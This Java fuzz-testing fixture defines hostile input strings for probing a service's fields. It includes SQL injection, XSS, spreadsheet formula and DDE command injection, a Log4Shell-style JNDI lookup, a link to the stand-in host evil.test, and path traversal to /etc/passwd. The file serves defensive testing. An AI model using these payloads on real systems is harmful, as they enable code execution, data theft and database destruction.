package fi.palaute.common.fuzz;

import java.util.List;

/**
 * Text an attacker or an unlucky customer puts into any field: SQL, HTML and script, spreadsheet
 * formulas, Slack mentions, template placeholders, control characters, unicode that breaks naive
 * code (surrogate pairs, combining marks, right-to-left overrides) and emoji. None of it contains
 * the words the stack-trace check looks for, so a hit there is always the service's own text.
 */
public final class HostileText {
    private HostileText() {}

    public static final String SQL = "'; DROP TABLE answers; --";
    public static final String HTML = "<script>alert('x')</script><img src=x onerror=alert(1)>\"&'";
    public static final String EMOJI = "Kiitos 🙏🏽 — très bien 👍 ✓ 日本語 Ωμέγα 👨‍👩‍👧‍👦";

    /** Values starting with what a spreadsheet runs as a formula. */
    public static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.test\",\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0");

    public static final List<String> ALL = List.of(
            SQL, "1 OR 1=1", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--", "x' UNION SELECT token FROM surveys--",
            HTML, "</textarea><script>alert(1)</script>", "\"><svg onload=alert(1)>", "javascript:alert(1)",
            "=HYPERLINK(\"http://evil.test\",\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "<!channel> <@U123> *bold* _it_ ~s~ `code` <https://evil.test|click>", "{{ticket.id}}", "${jndi:ldap://x}",
            "%s%n%x%d", "../../../etc/passwd", "\u0000", "a\u0000b", "line\r\nbreak", "\t\u000b\u000c",
            EMOJI, "\u202Eevil\u202C", "e\u0301\u0301\u0301", "\uD83D", "\uDE00", "￿", "𝕳𝖊𝖑𝖑𝖔",
            "", " ", "null", "true", "-1", "0", "00012", "1e400", "9223372036854775808", "NaN", "1.5", "0x1F",
            "١٢٣", "１２３");
}
